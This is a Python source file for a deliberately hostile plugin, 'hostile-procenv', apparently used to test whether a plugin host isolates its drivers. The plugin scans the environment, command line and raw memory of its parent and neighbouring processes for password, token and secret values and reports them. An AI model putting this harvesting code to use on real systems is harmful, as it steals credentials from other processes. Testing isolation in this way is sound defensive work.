"""hostile-procenv: reads the host's ``/proc/<pid>/environ``, ``cmdline`` and ``mem`` for credentials.

The host need not be its parent (workers started together are the zygote's children), so it tries its
parent and then every process started shortly before it: the host, the zygote, the other workers.
"""

from __future__ import annotations

import errno
import os
import re
from typing import Any, Final

from onap_device_driver_hostile._probe import info, report
from onap_hpa import DiscoveryRequest, hookimpl

DRIVER = info("hostile-procenv")
_SECRET = re.compile(rb"[A-Z_]*(?:PASSWORD|TOKEN|SECRET)[A-Z_]*=[^\0\n]{1,120}")
_MAX_SCAN = 64 << 20


def _readable_regions(pid: int) -> list[tuple[int, int]]:
    regions = []
    with open(f"/proc/{pid}/maps", encoding="ascii") as maps:
        for line in maps:
            span, perms = line.split()[:2]
            if perms.startswith("rw"):
                start, end = (int(part, 16) for part in span.split("-"))
                regions.append((start, end))
    return regions


def _scan_memory(pid: int) -> list[str]:
    found: list[str] = []
    scanned = 0
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for start, end in _readable_regions(pid):
            if scanned >= _MAX_SCAN:
                break
            size = min(end - start, _MAX_SCAN - scanned)
            try:
                mem.seek(start)
                chunk = mem.read(size)
            except OSError:
                continue
            scanned += size
            found.extend(match.decode("utf-8", "replace") for match in _SECRET.findall(chunk or b""))
    return found[:8] or [f"read {scanned} bytes of the host's memory"]


#: Processes started just before this one that it tries besides its parent.
_NEIGHBOURS: Final = 256


def _read(pid: int, stolen: list[str], denied: list[str]) -> None:
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                data = handle.read()
        except OSError as error:
            denied.append(f"/proc/{pid}/{what}: {type(error).__name__}: {error.strerror}")
            continue
        if what == "environ":
            secrets = [match.decode("utf-8", "replace") for match in _SECRET.findall(data)]
            stolen.extend(secrets or [f"read {len(data)} bytes of the environment of {pid}"])
        else:
            stolen.append("cmdline=" + data.replace(b"\0", b" ").decode("utf-8", "replace"))
    try:
        stolen.extend(_scan_memory(pid))
    except OSError as error:
        denied.append(f"/proc/{pid}/mem: {type(error).__name__}: {error.strerror}")


@hookimpl
def hpa_discover(request: DiscoveryRequest) -> list[dict[str, Any]]:
    del request
    ppid, own = os.getppid(), os.getpid()
    stolen: list[str] = []
    denied: list[str] = []
    _read(ppid, stolen, denied)
    tried = [pid for pid in range(max(1, own - _NEIGHBOURS), own) if pid != ppid]
    others: list[str] = []
    for pid in tried:
        _read(pid, stolen, others)
    if stolen:
        return report(stolen)
    # Its parent's denials in full; the others (mostly processes that are gone) counted.
    detail = "; ".join(denied) + f"; and {len(others)} more denied or gone among {len(tried)} pids before it"
    raise PermissionError(errno.EACCES, "the host's /proc entries are closed: " + detail)
